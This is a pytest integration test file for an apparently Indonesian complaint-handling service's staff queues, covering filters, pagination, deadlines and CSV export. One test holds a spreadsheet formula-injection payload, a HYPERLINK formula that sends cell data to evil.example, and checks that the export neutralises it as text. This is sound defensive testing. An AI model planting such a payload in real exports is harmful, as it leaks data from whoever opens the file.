"""Work queues: narrowed by category and local dates, each item with its deadline,
and exported as CSV."""

import csv
import io

import pytest

from chalicelib.jobs.escalation import run_sweep
from tests.integration.conftest import auth, file, post_json, route


def admin() -> dict:
    return auth("admin_pusat")


def triage(client, query: str = "") -> dict:
    response = client.http.get(f"/staff/queues/triage{query}", headers=admin())
    assert response.status_code == 200, response.body
    return response.json_body


def ids(page: dict) -> list[str]:
    return [i["tracking_id"] for i in page["items"]]


def file_at(client, clock, instant: str, **fields) -> str:
    clock.set(instant)
    return file(client, **fields)["tracking_id"]


# --- filters -----------------------------------------------------------------------


def test_a_category_filter_keeps_only_that_category(client, clock):
    road = file_at(client, clock, "2025-03-03T02:00:00Z", category="jalan")
    file_at(client, clock, "2025-03-04T02:00:00Z", category="sampah")
    another_road = file_at(client, clock, "2025-03-05T02:00:00Z", category="jalan")

    assert ids(triage(client, "?category=jalan")) == [road, another_road]


@pytest.mark.parametrize("written", ["JALAN", "Lampu%20Jalan", "lampu_jalan"])
def test_a_category_filter_is_read_as_intake_reads_a_category(client, clock, written):
    lamp = file_at(client, clock, "2025-03-03T02:00:00Z", category="Lampu Jalan")
    road = file_at(client, clock, "2025-03-04T02:00:00Z", category="Jalan")

    expected = [road] if written == "JALAN" else [lamp]
    assert ids(triage(client, f"?category={written}")) == expected


def test_received_dates_are_whole_local_days_in_the_regions_zone(client, clock):
    saturday_late = file_at(client, clock, "2025-03-01T16:59:00Z")  # Sat 1 Mar 23:59 WIB
    sunday_midnight = file_at(client, clock, "2025-03-01T17:00:00Z")  # Sun 2 Mar 00:00 WIB
    monday = file_at(client, clock, "2025-03-03T02:00:00Z")

    assert ids(triage(client, "?received_to=2025-03-01")) == [saturday_late]
    assert ids(triage(client, "?received_from=2025-03-02&received_to=2025-03-02")) == [
        sunday_midnight
    ]
    assert ids(triage(client, "?received_from=2025-03-02")) == [sunday_midnight, monday]


def test_dates_and_category_narrow_together(client, clock):
    file_at(client, clock, "2025-03-03T02:00:00Z", category="sampah")
    wanted = file_at(client, clock, "2025-03-04T02:00:00Z", category="sampah")
    file_at(client, clock, "2025-03-04T03:00:00Z", category="jalan")

    page = triage(client, "?category=sampah&received_from=2025-03-04&received_to=2025-03-04")

    assert ids(page) == [wanted]


def test_a_filtered_page_may_be_short_and_still_lead_on_to_every_match(client, clock):
    roads = []
    for day, category in enumerate(["sampah", "jalan", "sampah", "sampah", "jalan"], start=3):
        tid = file_at(client, clock, f"2025-03-0{day}T02:00:00Z", category=category)
        if category == "jalan":
            roads.append(tid)

    seen, sizes, cursor = [], [], ""
    while True:
        page = triage(client, f"?category=jalan&limit=2{cursor}")
        seen += ids(page)
        sizes.append(len(page["items"]))
        if not page["cursor"]:
            break
        cursor = f"&cursor={page['cursor']}"

    assert seen == roads
    assert min(sizes) < 2  # a page read two complaints and kept fewer


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("?received_from=2025-13-01", "received_from"),
        ("?received_from=1/3/2025", "received_from"),
        ("?received_to=kemarin", "received_to"),
        ("?received_to=2025-02-30", "received_to"),
        ("?received_from=2025-04-02&received_to=2025-04-01", "received_from"),
        ("?category=roads", "category"),
    ],
)
def test_bad_filters_are_a_400_naming_the_field(client, query, field):
    response = client.http.get(f"/staff/queues/triage{query}", headers=admin())

    assert response.status_code == 400
    assert response.json_body["error"]["field"] == field


def test_a_cursor_from_other_dates_is_a_400_naming_the_cursor(client, clock):
    file_at(client, clock, "2025-03-03T02:00:00Z")
    file_at(client, clock, "2025-03-10T02:00:00Z")
    cursor = triage(client, "?limit=1")["cursor"]

    response = client.http.get(
        f"/staff/queues/triage?received_from=2025-03-10&cursor={cursor}", headers=admin()
    )

    assert response.status_code == 400
    assert response.json_body["error"]["field"] == "cursor"


def test_a_cursor_of_another_queue_is_refused_even_with_filters(client, clock):
    tid = file_at(client, clock, "2025-03-03T02:00:00Z")
    file_at(client, clock, "2025-03-04T02:00:00Z")
    route(client, tid, "PUPR")
    file_at(client, clock, "2025-03-05T02:00:00Z")
    cursor = triage(client, "?limit=1")["cursor"]

    response = client.http.get(
        f"/staff/queues/agency?agency=PUPR&category=jalan&cursor={cursor}", headers=admin()
    )

    assert response.status_code == 400
    assert response.json_body["error"]["field"] == "cursor"


# --- the deadline block of each item -------------------------------------------------


def test_triage_marks_routing_as_overdue_from_midnight_after_its_due_day(client, clock):
    tid = file(client)["tracking_id"]  # Thu 27 Mar 2025 09:00 WIB, before Lebaran

    clock.set("2025-04-10T23:59:00+07:00")
    on_due_day = triage(client)["items"][0]
    clock.set("2025-04-11T00:00:00+07:00")
    day_after = triage(client)["items"][0]

    assert on_due_day["tracking_id"] == tid
    assert on_due_day["queue"] == {
        "verification_due": "2025-04-08",
        "verification_overdue": True,
        "routing_due": "2025-04-10",
        "routing_overdue": False,
    }
    assert day_after["queue"]["routing_overdue"] is True


def test_routing_due_follows_a_holiday_declared_after_filing(client, clock):
    file(client)
    post_json(
        client,
        "/staff/calendar/changes",
        {
            "date": "2025-04-09",
            "change": "add",
            "scope": "tanggamus",
            "name": "Libur daerah",
            "reason": "Surat edaran Bupati",
        },
        auth("admin_daerah", region="tanggamus"),
    )

    assert triage(client)["items"][0]["queue"]["routing_due"] == "2025-04-11"


def test_the_agency_sees_the_follow_up_deadline_and_the_working_days_left(client, clock):
    tid = file(client)["tracking_id"]
    route(client, tid, "PUPR")
    clock.set("2025-05-22T10:00:00+07:00")

    page = client.http.get("/staff/queues/agency", headers=auth("agency", agency="PUPR"))

    assert page.json_body["items"][0]["queue"] == {
        "follow_up_due": "2025-05-23",
        "working_days_left": 1,
    }


def test_the_intervention_queue_counts_down_to_the_takeover(client, clock):
    tid = file(client)["tracking_id"]
    route(client, tid, "PUPR")
    clock.set("2025-05-26T09:00:00+07:00")
    run_sweep(clock.now)

    page = client.http.get(
        "/staff/queues/intervention", headers=auth("admin_daerah", region="tanggamus")
    ).json_body

    assert ids(page) == [tid]
    # Mon 26 May is the 31st working day of the clock; the 60th is Fri 11 Jul.
    assert page["items"][0]["queue"] == {"takeover_due": "2025-07-11", "working_days_left": 29}


# --- export ---------------------------------------------------------------------------


def export(client, path: str, headers: dict):
    return client.http.get(path, headers=headers)


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.body.decode("utf-8"))))


def test_an_agencys_export_of_an_anonymous_complaint_holds_nothing_of_the_reporter(client):
    tid = file(client, anonymous=True, nik="3506042602660001", email="sumiyati@example.id")[
        "tracking_id"
    ]
    route(client, tid, "PUPR")

    response = export(client, "/staff/queues/agency/export", auth("agency", agency="PUPR"))

    text = response.body.decode("utf-8")
    for secret in ("Sumiyati", "sumiyati@example.id", "3506042602660001", "6281234567890"):
        assert secret not in text
    (row,) = csv_rows(response)
    assert row["tracking_id"] == tid
    assert (row["reporter_name"], row["reporter_phone"], row["reporter_email"]) == ("", "", "")
    assert 'filename="saber-agency-tanggamus-PUPR-' in response.headers["Content-Disposition"]


def test_an_admins_export_names_a_reporter_who_is_not_anonymous(client):
    tid = file(client, email="sumiyati@example.id")["tracking_id"]

    (row,) = csv_rows(export(client, "/staff/queues/triage/export", admin()))

    assert row["tracking_id"] == tid
    assert row["reporter_name"] == "Sumiyati"
    assert row["reporter_email"] == "sumiyati@example.id"


def test_a_formula_in_a_title_is_exported_as_text(client):
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    file(client, title=title, location="@SUM(1+1)")

    (row,) = csv_rows(export(client, "/staff/queues/triage/export", admin()))

    assert row["title"] == "'" + title
    assert row["location"] == "'@SUM(1+1)"


def test_the_export_is_a_csv_attachment_named_after_the_queue_and_day(client, clock):
    file(client)

    response = export(client, "/staff/queues/triage/export", admin())

    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="saber-triage-tanggamus-2025-03-27.csv"'
    )


def test_the_export_applies_the_filters_and_pages_with_a_cursor_header(client, clock):
    wanted = [
        file_at(client, clock, f"2025-03-0{day}T02:00:00Z", category="jalan") for day in (3, 4)
    ]
    file_at(client, clock, "2025-03-05T02:00:00Z", category="sampah")
    query = "category=jalan&received_from=2025-03-03&received_to=2025-03-05&limit=1"

    first = export(client, f"/staff/queues/triage/export?{query}", admin())
    second = export(
        client,
        f"/staff/queues/triage/export?{query}&cursor={first.headers['X-Next-Cursor']}",
        admin(),
    )

    assert [r["tracking_id"] for r in csv_rows(first) + csv_rows(second)] == wanted
    assert all(r["category"] == "jalan" for r in csv_rows(first) + csv_rows(second))


def test_a_bad_export_filter_is_a_json_400_naming_the_field(client):
    response = export(client, "/staff/queues/triage/export?category=roads", admin())

    assert response.status_code == 400
    assert response.json_body["error"]["field"] == "category"
